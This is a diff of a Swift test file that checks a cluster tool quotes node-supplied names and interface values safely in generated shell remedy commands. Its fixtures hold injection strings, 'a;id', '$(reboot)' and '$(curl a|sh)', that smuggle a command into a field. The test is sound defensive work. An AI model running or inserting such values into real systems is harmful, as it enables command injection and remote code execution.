@@ -16,13 +16,24 @@ import Wording
                 + "--total-nodes 2 --hash-init 42 --own a=1 --own b=2")
     }
 
-    @Test(arguments: [
-        ("eth0", "eth0"), ("a=1,3-5", "a=1,3-5"), ("", "''"), ("a b", "'a b'"), ("it's", "'it'\\''s'"),
-        ("$(reboot)", "'$(reboot)'"), ("a;b", "'a;b'"), ("ä", "'ä'"), ("~", "'~'"),
-    ])
-    func `no name reaches a shell as more than a word`(word: String, quoted: String) {
-        #expect(ShellWord.quoted(word) == quoted)
-        #expect(Remedy.drain(node: word).sentence == "clusterip drain \(quoted)")
+    @Test func `a name that a node supplies is a word of a command, whatever it is`() throws {
+        var node = NodeStatus(
+            name: "a;id", state: .live,
+            sample: ClusterSample(
+                configuration: Self.settings, driver: "nftables", ownership: Ownership(owned: [1, 2]), counters: [],
+                health: MulticastHealth(interfaceUp: false, macJoined: false)))
+        node.sample?.configuration.interface = "$(curl a|sh)"
+        var snapshot = ClusterSnapshot(configuration: try #require(node.sample).configuration, nodes: [node])
+        #expect(
+            snapshot.worstFindings().map(\.remedy.sentence) == [
+                "on a;id: ip link set '$(curl a|sh)' up",
+                "on a;id: ip maddress add 01:00:5e:08:00:01 dev '$(curl a|sh)'",
+            ])
+        (node.lost, node.sample, node.isBare) = (node.sample, nil, true)
+        snapshot.nodes = [node]
+        let remedies = snapshot.worstFindings().map(\.remedy.sentence)
+        #expect(remedies.contains { $0.contains(" --interface '$(curl a|sh)' ") && $0.hasSuffix(" --own 'a;id=1-2'") })
+        #expect(Remedy.drain(node: "a;id").sentence == "clusterip drain 'a;id'")
     }
 
     static let requests: [(Remedy, PlanRequest?)] = [
